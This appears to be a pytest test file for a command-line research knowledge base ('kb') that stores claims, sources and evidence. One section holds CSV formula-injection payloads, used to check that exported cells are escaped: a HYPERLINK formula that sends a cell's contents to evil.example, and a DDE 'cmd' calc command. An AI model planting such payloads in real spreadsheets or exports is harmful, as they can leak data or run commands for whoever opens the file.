"""Issue 8, the rest of a researcher's day: each test is named for the item it holds."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING

import pytest

from tests.conftest import KB, sqlite_only

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    from click.testing import Result

A = "ainews2026great"


def error_line(result: Result) -> str:
    return str(result.stderr).strip().splitlines()[-1]


def claim(kb: KB, claim_id: str) -> dict[str, object]:
    record: dict[str, object] = json.loads(kb.ok("claim", "show", claim_id, "--format", "json"))
    return record


# Edit the way people think ------------------------------------------------------------------


def test_edit_adds_and_removes_themes_countries_and_actors(seeded: KB) -> None:
    new = seeded.ok("claim", "add", "--source", A, "--text", "Chip curbs bite",
                    "--country", "US", "--theme", "hardware/chips", "--theme", "energy/grid",
                    "--actor", "Nvidia").strip()
    seeded.ok("claim", "edit", new, "--add-theme", "security/military",
              "--add-country", "China", "--add-actor", "Huawei", "--remove-actor", "nvidia")
    record = claim(seeded, new)
    assert record["themes"] == ["energy/grid", "hardware/chips", "security/military"]
    assert record["countries"] == ["CN", "US"]
    assert record["actors"] == ["Huawei"]
    seeded.ok("claim", "edit", new, "--remove-theme", "Energy/Grid", "--remove-country", "USA")
    record = claim(seeded, new)
    assert record["themes"] == ["hardware/chips", "security/military"]
    assert record["countries"] == ["CN"]
    # History records the changes as any edit.
    history = json.loads(seeded.ok("claim", "history", new, "--format", "json"))
    assert history[-1]["changes"]["themes"] == {
        "from": ["energy/grid", "hardware/chips", "security/military"],
        "to": ["hardware/chips", "security/military"]}
    # --theme still replaces the whole list.
    seeded.ok("claim", "edit", new, "--theme", "policy")
    assert claim(seeded, new)["themes"] == ["policy"]


def test_edit_removing_what_a_claim_lacks_is_refused(seeded: KB) -> None:
    new = seeded.ok("claim", "add", "--source", A, "--text", "x", "--theme", "hardware/chips"
                    ).strip()
    before = seeded.dump()
    result = seeded("claim", "edit", new, "--remove-theme", "hardware/chip")
    assert result.exit_code == 1
    assert error_line(result) == (f"Error: claim {new} has no theme 'hardware/chip' "
                                  "(did you mean 'hardware/chips'?)")
    assert seeded.dump() == before


def test_edit_without_a_change_is_a_usage_error(seeded: KB) -> None:
    before = seeded.dump()
    result = seeded("claim", "edit", "1")
    assert result.exit_code == 2
    assert str(result.stderr).strip().count("\n") == 0
    assert error_line(result).startswith("Error: nothing to change")
    assert seeded.dump() == before


def test_a_repeated_status_means_any_of_them(seeded: KB) -> None:
    one = seeded.ok("claim", "add", "--source", A, "--text", "Refuted one").strip()
    two = seeded.ok("claim", "add", "--source", A, "--text", "Contested one").strip()
    seeded.ok("evidence", "add", one, "--refutes", "--source", "npr2026china")
    seeded.ok("evidence", "add", two, "--refutes", "--source", "npr2026china")
    seeded.ok("evidence", "add", two, "--supports", "--source", A)
    rows = json.loads(seeded.ok("claim", "list", "--status", "contested", "--status", "refuted",
                                "--format", "json"))
    assert {r["status"] for r in rows} == {"contested", "refuted"}
    assert {int(one), int(two)} <= {r["id"] for r in rows}


def test_all_countries_keeps_claims_about_every_listed_country(seeded: KB) -> None:
    both = seeded.ok("claim", "add", "--source", A, "--text", "Both", "--country", "US",
                     "--country", "China").strip()
    seeded.ok("claim", "add", "--source", A, "--text", "US only", "--country", "US")
    rows = json.loads(seeded.ok("claim", "list", "--country", "US", "--country", "PRC",
                                "--all-countries", "--format", "json"))
    assert int(both) in {r["id"] for r in rows}
    assert all({"US", "CN"} <= set(r["countries"]) for r in rows)
    any_of = json.loads(seeded.ok("claim", "list", "--country", "US", "--country", "PRC",
                                  "--format", "json"))
    assert len(any_of) > len(rows)


# Keys and citations -------------------------------------------------------------------------


def test_a_key_without_authors_comes_from_the_container_then_the_title(kb: KB) -> None:
    from kb.db import Database

    assert kb.ok("source", "add", "--title", "H20 chips cleared for export",
                 "--publisher", "Tom's Hardware", "--date", "2025-07-15").strip() \
        == "tomshardware2025h20"
    assert kb.ok("source", "add", "--title", "Licences for chips", "--date", "2025"
                 ).strip() == "licences2025chips"
    database = Database(kb.url)
    try:
        from sqlalchemy.orm import Session

        from kb.models import Source
        from kb.services.sources import make_key

        with Session(database.engine) as session:
            work = Source(key="x", type="article-magazine", title="The H20 reversal",
                          container="Tom's Hardware", publisher="Future plc", issued="2025")
            # The container before the publisher (the key taken above: a suffix follows).
            assert make_key(session, work) == "tomshardware2025h20a"
    finally:
        database.dispose()


def test_export_citations_of_a_source_without_claims(kb: KB) -> None:
    key = kb.ok("source", "add", "--title", "Fresh report", "--publisher", "IEA",
                "--date", "2026").strip()
    out = kb.ok("export", "citations", "--source", key, "--format", "bibtex")
    assert f"{{{key}," in out
    missing = kb("export", "citations", "--source", "nosuch", "--format", "bibtex")
    assert missing.exit_code == 1


# Readable output ----------------------------------------------------------------------------


LONG = ("Chinese firms stockpiled high-bandwidth memory ahead of the December controls, "
        "according to three distributors in Shenzhen and one in Singapore")


def test_tables_use_the_terminal_width_and_wide_or_piped_never_cut(
        seeded: KB, monkeypatch: pytest.MonkeyPatch) -> None:
    import os
    import shutil

    seeded.ok("claim", "add", "--source", A, "--text", LONG)
    piped = seeded.ok("claim", "list", "--search", "stockpiled")
    assert LONG in piped  # CliRunner's stdout is not a terminal: never cut
    # A 100-column terminal: click's runner swaps sys.stdout, so its class says "a tty".
    monkeypatch.setattr(shutil, "get_terminal_size", lambda: os.terminal_size((100, 40)))
    from click.testing import _NamedTextIOWrapper

    monkeypatch.setattr(_NamedTextIOWrapper, "isatty", lambda self: True, raising=False)
    cut = seeded.ok("claim", "list", "--search", "stockpiled")
    assert max(len(line) for line in cut.splitlines()) <= 100 and "…" in cut
    wide = seeded.ok("claim", "list", "--search", "stockpiled", "--wide")
    assert LONG in wide


def test_table_fits_the_width_it_is_given() -> None:
    from kb.cli.output import table

    rows = [{"id": 1, "source": "npr2026china", "text": LONG, "themes": "hardware/chips"}]
    columns = ["id", "source", "themes", "text"]
    for width in (60, 100, 220):
        lines = table(rows, columns, {"text": 70, "themes": 30}, max_width=width).splitlines()
        assert max(len(line) for line in lines) <= width
    assert LONG in table(rows, columns, {"text": 70}, max_width=None)
    assert LONG in table(rows, columns, {"text": 70}, max_width=220)


def test_an_empty_listing_is_silent_piped_and_says_so_on_a_terminal(
        kb: KB, monkeypatch: pytest.MonkeyPatch) -> None:
    piped = kb("claim", "list")
    assert (piped.exit_code, piped.stdout, piped.stderr) == (0, "", "")
    assert kb.ok("claim", "list", "--format", "json").strip() == "[]"
    assert len(kb.ok("claim", "list", "--format", "csv").splitlines()) == 1
    from kb.cli import output

    monkeypatch.setattr(output, "_on_terminal", lambda: True)
    shown = kb("claim", "list")
    assert shown.exit_code == 0
    assert shown.stdout.split() == ["ID", "DATE", "SOURCE", "STATUS", "QUOTE_STATUS",
                                    "COUNTRIES", "THEMES", "TEXT"]
    assert shown.stderr == "no claims match\n"


# CSV a spreadsheet will not run --------------------------------------------------------------

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
EVIL_QUOTE = "@SUM(1+1)*cmd|' /C calc'!A0"


def test_csv_cells_are_protected_and_kbs_import_round_trips_them(
        seeded: KB, new_kb: Callable[[], KB], tmp_path: Path) -> None:
    import csv
    import io

    new = seeded.ok("claim", "add", "--source", A, "--text", EVIL, "--quote", EVIL_QUOTE,
                    "--actor", "-Minus Corp").strip()
    listed = seeded.ok("claim", "list", "--actor", "-Minus Corp", "--format", "csv")
    exported = seeded.ok("export", "claims", "--format", "csv", "--actor", "-Minus Corp")
    for text in (listed, exported):
        (row,) = [r for r in csv.DictReader(io.StringIO(text)) if r["id"] == new]
        assert (row["text"], row["quote"], row["actors"]) == (
            "'" + EVIL, "'" + EVIL_QUOTE, "'-Minus Corp")
    # One set of claim columns for every CSV kb writes.
    assert listed.splitlines()[0] == exported.splitlines()[0]
    assert {"id", "status"} <= set(listed.splitlines()[0].split(","))
    raw = seeded.ok("claim", "list", "--actor", "-Minus Corp", "--format", "csv", "--raw")
    (row,) = csv.DictReader(io.StringIO(raw))
    assert (row["text"], row["quote"]) == (EVIL, EVIL_QUOTE)
    raw_export = seeded.ok("export", "claims", "--format", "csv", "--raw")
    assert EVIL.replace('"', '""') in raw_export
    # Back in through kb's import: exactly what was stored.
    path = tmp_path / "claims.csv"
    path.write_text(exported, encoding="utf-8")
    other = new_kb()
    other.ok("source", "add", "--title", "AI News", "--key", A)
    other.ok("source", "add", "--title", "NPR", "--key", "npr2026china")
    result = other("import", str(path))
    assert result.exit_code == 0, result.output
    rows = json.loads(other.ok("claim", "list", "--actor", "-Minus Corp", "--format", "json"))
    assert (rows[0]["text"], rows[0]["quote"]) == (EVIL, EVIL_QUOTE)


def test_compare_csv_protects_an_actors_name(seeded: KB) -> None:
    seeded.ok("claim", "add", "--source", A, "--text", "x", "--country", "US", "--actor",
              "=cmd")
    out = seeded.ok("compare", "--country", "US", "--country", "CN", "--by", "actor",
                    "--format", "csv")
    assert "'=cmd" in out.splitlines()[1:][0] or any(
        line.startswith("'=cmd") for line in out.splitlines())
    raw = seeded.ok("compare", "--country", "US", "--country", "CN", "--by", "actor",
                    "--format", "csv", "--raw")
    assert any(line.startswith("=cmd") for line in raw.splitlines())


# Bulk delete and restore ---------------------------------------------------------------------


def test_bulk_rm_by_source_asks_or_takes_yes_in_one_transaction(
        seeded: KB, monkeypatch: pytest.MonkeyPatch) -> None:
    from kb.cli import claim as claim_cli

    seeded.ok("source", "add", "--title", "Doomed report", "--key", "doomed", "--date", "2026")
    made = [seeded.ok("claim", "add", "--source", "doomed", "--text", f"Doomed {i}").strip()
            for i in range(3)]
    before = seeded.dump()
    refused = seeded("claim", "rm", "--source", "doomed", "--all")  # stdin is no terminal
    assert refused.exit_code == 2
    assert error_line(refused) == ("Error: --all removes claims without asking only with "
                                   "--yes (stdin is not a terminal)")
    assert seeded("claim", "rm", "--source", "doomed").exit_code == 2
    assert seeded("claim", "rm", "3", "--source", "doomed", "--all").exit_code == 2
    monkeypatch.setattr(claim_cli, "interactive", lambda: True)
    declined = seeded("claim", "rm", "--source", "doomed", "--all", input="n\n")
    assert declined.exit_code == 1
    assert "remove 3 claims?" in declined.stderr
    assert seeded.dump() == before
    # A claim that stays and cites one of them: refused whole, then --force.
    keeper = seeded.ok("claim", "add", "--source", A, "--text", "Keeper").strip()
    seeded.ok("evidence", "add", keeper, "--supports", "--claim", made[0])
    before = seeded.dump()
    cited = seeded("claim", "rm", "--source", "doomed", "--all", "--yes")
    assert cited.exit_code == 1
    assert error_line(cited) == (f"Error: claim {made[0]} is evidence for claim {keeper}, which "
                                 "stays; remove that evidence first or pass --force")
    assert seeded.dump() == before
    done = seeded("claim", "rm", "--source", "doomed", "--all", "--force", input="y\n")
    assert done.exit_code == 0, done.output
    assert "removed 3 claims" in done.stderr
    assert f"standing of claim {keeper}: supported -> unverified" in done.stderr
    assert json.loads(seeded.ok("claim", "list", "--source", "doomed", "--format", "json")) == []
    history = json.loads(seeded.ok("claim", "history", keeper, "--format", "json"))
    assert "3 claims were removed together" in json.dumps(history)


# Search with stemming ------------------------------------------------------------------------


def test_search_stems_english_words_and_keeps_phrases_in_order(seeded: KB) -> None:
    new = int(seeded.ok("claim", "add", "--source", A, "--text",
                        "Commerce granted export licences to Müller's firm").strip())

    def ids(query: str) -> set[int]:
        return {c["id"] for c in json.loads(seeded.ok("search", query, "--format", "json"))}

    assert new in ids("licence")
    assert new in ids("exporting")
    assert new in ids("muller")  # diacritics still folded
    assert new in ids('"export licence"')  # a phrase: stems next to each other, in order
    assert new not in ids('"licence export"')


def test_migration_0010_stems_and_goes_back(empty_url: str) -> None:
    from alembic import command

    from kb.db import alembic_config

    config = alembic_config(empty_url)
    command.upgrade(config, "head")
    kb = KB(empty_url)
    kb.ok("source", "add", "--title", "Licensing", "--key", "lic", "--date", "2025")
    kb.ok("claim", "add", "--source", "lic", "--text", "Export licences were revoked")

    def hits(query: str) -> int:
        # Through the index alone: a kb command would migrate the database to head first.
        from sqlalchemy import create_engine
        from sqlalchemy.orm import Session

        from kb.services.search import matches

        engine = create_engine(empty_url)
        try:
            with Session(engine) as session:
                return len(session.execute(matches(session, query)).all())
        finally:
            engine.dispose()

    assert (hits("licence"), hits("licences")) == (1, 1)
    command.downgrade(config, "0007")
    assert (hits("licence"), hits("licences")) == (0, 1)
    command.upgrade(config, "head")
    assert (hits("licence"), hits("revoke")) == (1, 1)


# Exit codes: 2 for a value that can never be right, 1 for what the database refuses ---------

NEVER_RIGHT = [
    ["claim", "list", "--since", "2025-13"],
    ["claim", "list", "--bogus"],
    ["claim", "add", "--source", A, "--text", "x", "--country", "Atlantis"],
    ["claim", "list", "--status", "maybe"],
    ["claim", "edit", "1"],
    ["claim", "rm", "--all"],
    ["source", "add", "--title", "x", "--date", "not a date"],
    ["export", "citations", "--format", "nope"],
    ["claim", "show", "abc"],
    ["claim", "list", "--limit", "-1"],
    ["compare", "--country", "US"],
]
REFUSED_BY_THE_DATABASE = [
    ["claim", "add", "--source", "nosuch", "--text", "x"],
    ["claim", "show", "9999"],
    ["source", "add", "--title", "x", "--key", "npr2026china"],
    ["claim", "list", "--theme", "nosuch"],
    ["claim", "list", "--actor", "Nobody"],
    ["evidence", "rm", "999"],
    ["claim", "edit", "1", "--remove-theme", "nosuch"],
    ["themes", "rename", "nosuch", "other"],
    ["claim", "rm", "{cited}"],
]


@pytest.mark.parametrize(("args", "code"), [(a, 2) for a in NEVER_RIGHT]
                         + [(a, 1) for a in REFUSED_BY_THE_DATABASE],
                         ids=lambda v: " ".join(v) if isinstance(v, list) else str(v))
def test_exit_codes_follow_the_rule(seeded: KB, args: list[str], code: int) -> None:
    cited = seeded.ok("claim", "add", "--source", A, "--text", "Cited").strip()
    seeded.ok("evidence", "add", "1", "--supports", "--claim", cited)
    before = seeded.dump()
    result = seeded(*[a.format(cited=cited) for a in args])
    assert result.exit_code == code, result.output
    assert error_line(result).startswith("Error: ")
    assert str(result.stderr).strip().count("\n") == 0  # one line
    assert seeded.dump() == before


@sqlite_only
def test_restore_brings_a_backup_back_safely(seeded: KB, new_kb: Callable[[], KB],
                                             tmp_path: Path) -> None:
    backup = tmp_path / "backup.sqlite3"
    seeded.ok("backup", str(backup))
    listed = seeded.ok("claim", "list", "--format", "json")
    # Into an empty database: checked, copied, migrated.
    fresh = new_kb()
    result = fresh("restore", str(backup))
    assert result.exit_code == 0, result.output
    assert fresh.ok("claim", "list", "--format", "json") == listed
    # Over a database with claims: only with --yes.
    other = new_kb()
    other.ok("source", "add", "--title", "Mine", "--key", "mine")
    before = other.dump()
    refused = other("restore", str(backup))
    assert refused.exit_code == 1
    assert error_line(refused).endswith(
        "holds 1 source(s) and 0 claim(s); pass --yes to replace them with the backup")
    assert other.dump() == before
    assert other("restore", str(backup), "--yes").exit_code == 0
    assert other.ok("claim", "list", "--format", "json") == listed
    # A file that is not a kb database: a value that can never be right.
    junk = tmp_path / "junk.sqlite3"
    junk.write_bytes(b"not a database at all" * 100)
    bad = fresh("restore", str(junk))
    assert bad.exit_code == 2
    assert "not a kb database" in error_line(bad)
    import sqlite3

    foreign = tmp_path / "foreign.sqlite3"
    with sqlite3.connect(foreign) as conn:
        conn.execute("CREATE TABLE alembic_version (version_num TEXT)")
        conn.execute("INSERT INTO alembic_version VALUES ('9999')")
    conn.close()
    unknown = fresh("restore", str(foreign))
    assert unknown.exit_code == 2
    assert "schema revision '9999' is unknown" in error_line(unknown)
